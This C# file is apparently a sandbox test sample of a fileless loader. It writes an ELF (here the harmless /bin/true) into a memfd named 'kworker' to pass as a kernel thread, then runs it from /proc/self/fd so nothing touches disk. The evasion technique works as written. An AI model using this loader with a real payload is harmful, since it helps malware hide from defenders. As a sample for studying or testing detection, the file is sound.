// MALICIOUS SAMPLE (runs only in the sandbox): a fileless loader. It copies an ELF into an anonymous memory file
// (memfd_create) and runs it from there through /proc/self/fd/N, so nothing it runs ever lies on disk. The ELF is
// the image's own /bin/true: harmless here, but the technique is the one in-memory droppers use.
using System.Diagnostics;
using System.Runtime.InteropServices;

var fd = Native.memfd_create("kworker", 0);
if (fd < 0)
{
    Console.Error.WriteLine($"memfd_create failed: errno {Marshal.GetLastPInvokeError()}");
    return 1;
}

var payload = File.ReadAllBytes("/bin/true");
unsafe
{
    fixed (byte* bytes = payload)
    {
        for (var written = 0; written < payload.Length;)
        {
            var count = Native.write(fd, bytes + written, payload.Length - written);
            if (count <= 0)
            {
                Console.Error.WriteLine($"write failed: errno {Marshal.GetLastPInvokeError()}");
                return 1;
            }

            written += (int)count;
        }
    }
}

// The memfd has no close-on-exec flag, so the child inherits it under the same number.
using (var child = Process.Start(new ProcessStartInfo($"/proc/self/fd/{fd}") { UseShellExecute = false })!)
{
    child.WaitForExit();
    Console.WriteLine($"loader: stage two exited with {child.ExitCode}");
}

return 0;

internal static unsafe partial class Native
{
    [LibraryImport("libc", StringMarshalling = StringMarshalling.Utf8, SetLastError = true)]
    internal static partial int memfd_create(string name, uint flags);

    [LibraryImport("libc", SetLastError = true)]
    internal static partial nint write(int fd, byte* buffer, nint count);
}
